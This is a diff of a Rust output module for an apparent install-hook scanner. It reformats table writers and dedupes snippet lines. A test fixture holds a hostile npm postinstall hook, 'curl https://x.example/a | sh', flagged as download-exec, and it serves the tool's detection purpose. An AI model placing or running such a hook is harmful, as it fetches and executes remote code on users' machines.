@@ -3,9 +3,9 @@
 
 use std::io::{self, Write};
 
+use tollgate_analysis::PackageReport;
 use tollgate_analysis::gate::Gate;
 use tollgate_analysis::lockmap::{LockMap, counts};
-use tollgate_analysis::PackageReport;
 
 use crate::table::write_table;
 
@@ -17,8 +17,19 @@ pub fn write_package_json<W: Write>(out: &mut W, report: &PackageReport) -> io::
 
 /// The package's state, its hooks, then one row per finding with file:line and snippet.
 pub fn write_package_table<W: Write>(out: &mut W, report: &PackageReport) -> io::Result<()> {
-    let name = if report.name.is_empty() { "(unnamed)" } else { &report.name };
-    writeln!(out, "{} {} ({}): {}", name, report.version, report.ecosystem, report.state.label())?;
+    let name = if report.name.is_empty() {
+        "(unnamed)"
+    } else {
+        &report.name
+    };
+    writeln!(
+        out,
+        "{} {} ({}): {}",
+        name,
+        report.version,
+        report.ecosystem,
+        report.state.label()
+    )?;
     for hook in &report.hooks {
         let mut line = format!("  hook {}", hook.phase);
         if let Some(command) = &hook.command {
@@ -48,9 +59,14 @@ pub fn write_package_table<W: Write>(out: &mut W, report: &PackageReport) -> io:
                 ]
             })
             .collect();
-        write_table(out, &["  severity", "rule", "phase", "where", "what"], &rows)?;
+        write_table(
+            out,
+            &["  severity", "rule", "phase", "where", "what"],
+            &rows,
+        )?;
+        let mut shown = std::collections::BTreeSet::new();
         for f in &report.findings {
-            if !f.snippet.is_empty() {
+            if !f.snippet.is_empty() && shown.insert((f.file.as_str(), f.line)) {
                 writeln!(out, "  {}:{}: {}", f.file, f.line, f.snippet)?;
             }
         }
@@ -96,7 +112,13 @@ pub fn write_lock_map_table<W: Write>(out: &mut W, maps: &[LockMap]) -> io::Resu
                 ]
             })
             .collect();
-        writeln!(out, "{} ({}, {} packages)", map.lockfile, map.format, map.entries.len())?;
+        writeln!(
+            out,
+            "{} ({}, {} packages)",
+            map.lockfile,
+            map.format,
+            map.entries.len()
+        )?;
         if !rows.is_empty() {
             write_table(out, &["  name", "version", "state", "line", "gate"], &rows)?;
         }
@@ -115,7 +137,18 @@ pub fn write_lock_map_table<W: Write>(out: &mut W, maps: &[LockMap]) -> io::Resu
             ]
         })
         .collect();
-    write_table(out, &["ecosystem", "packages", "runs-code", "blocked", "no-code", "unknown"], &rows)
+    write_table(
+        out,
+        &[
+            "ecosystem",
+            "packages",
+            "runs-code",
+            "blocked",
+            "no-code",
+            "unknown",
+        ],
+        &rows,
+    )
 }
 
 #[cfg(test)]
@@ -135,8 +168,17 @@ mod tests {
         let mut out = Vec::new();
         write_package_table(&mut out, &report).unwrap();
         let text = String::from_utf8(out).unwrap();
-        assert!(text.starts_with("x 1.0.0 (npm): runs-code (npm-script)\n"), "{text}");
-        assert!(text.contains("hook postinstall: curl https://x.example/a | sh  [package.json:2]"), "{text}");
-        assert!(text.contains("download-exec  postinstall  package.json:2"), "{text}");
+        assert!(
+            text.starts_with("x 1.0.0 (npm): runs-code (npm-script)\n"),
+            "{text}"
+        );
+        assert!(
+            text.contains("hook postinstall: curl https://x.example/a | sh  [package.json:2]"),
+            "{text}"
+        );
+        assert!(
+            text.contains("download-exec  postinstall  package.json:2"),
+            "{text}"
+        );
     }
 }
